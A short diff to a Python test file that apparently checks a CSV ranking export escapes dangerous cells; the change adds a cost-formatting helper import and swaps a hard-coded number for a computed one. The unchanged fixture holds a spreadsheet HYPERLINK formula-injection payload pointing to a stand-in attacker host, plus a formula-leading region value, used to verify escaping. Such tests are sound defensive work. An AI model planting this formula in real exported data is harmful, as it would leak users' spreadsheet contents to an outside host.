@@ -6,6 +6,7 @@ import io
 import pytest
 
 from inferledger.csv_cells import safe_cell
+from tests.money import per_million_text
 
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
 
@@ -39,4 +40,4 @@ def test_the_ranking_csv_escapes_a_provider_name_that_is_a_formula(api, make_acc
     assert response.status_code == 200
     (row,) = csv.DictReader(io.StringIO(response.content.decode()))
     assert row["provider"] == "'" + FORMULA and row["region"] == "'-us+1"
-    assert row["cost_per_million_usd"] == "1.3889"  # numbers are untouched
+    assert row["cost_per_million_usd"] == per_million_text("2.00", 400)  # numbers are untouched
